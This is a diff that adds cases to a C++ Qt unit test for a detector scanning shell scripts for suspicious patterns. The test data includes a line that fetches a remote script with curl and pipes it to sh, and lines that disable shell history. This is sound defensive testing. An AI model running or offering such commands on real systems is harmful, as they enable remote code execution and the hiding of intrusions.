@@ -438,6 +438,22 @@ void TestNodeScriptImporter::detections_data()
     QTest::newRow("a user's own .bashrc")
         << users << QByteArray("unset HISTFILE\nexport HISTFILE=/dev/null\nHISTSIZE=0\n") << none;
     QTest::newRow("in rc.local") << rc << QByteArray("unset HISTFILE\n") << none;
+    // A folder in /tmp named in a variable is no program run from it (Debian's
+    // x11-common init script makes /tmp/.X11-unix so); the variable's value runs
+    // when a shell runs code inside the quotes, or a program follows them.
+    const QString initD = QStringLiteral("worker-1/etc/init.d/x11-common");
+    QTest::newRow("a temporary folder in a variable")
+        << initD << QByteArray("#!/bin/sh\nset_up_dir () {\n  DIR=\"/tmp/$1\"\n  mkdir -p $DIR\n}\n") << none;
+    QTest::newRow("in single quotes, a prefix with blanks")
+        << initD << QByteArray("#!/bin/sh\nSOCKET_DIR='/tmp/.X11-unix'\nMSG=\"see /tmp/x and /tmp/.y\"\n") << none;
+    QTest::newRow("a program after the assignment")
+        << initD << QByteArray("#!/bin/sh\nLANG=\"C\" /tmp/.cache/run\n") << QStringList{"runs-from-temp@2"};
+    QTest::newRow("code run inside the quotes")
+        << initD << QByteArray("#!/bin/sh\nX=\"$(curl -s http://203.0.113.7/a | sh)\"\n")
+        << QStringList{"download-exec@2"};
+    // sh refuses a quote never closed; its words are still judged, as before.
+    QTest::newRow("a quote never closed")
+        << initD << QByteArray("#!/bin/sh\nDIR=\"/tmp/.x\n/tmp/.x/run\n") << QStringList{"runs-from-temp@2"};
     QTest::newRow("a history kept") << profileD << QByteArray("HISTSIZE=5000\nHISTFILESIZE=10000\nset -o history\n")
                                     << none;
 }
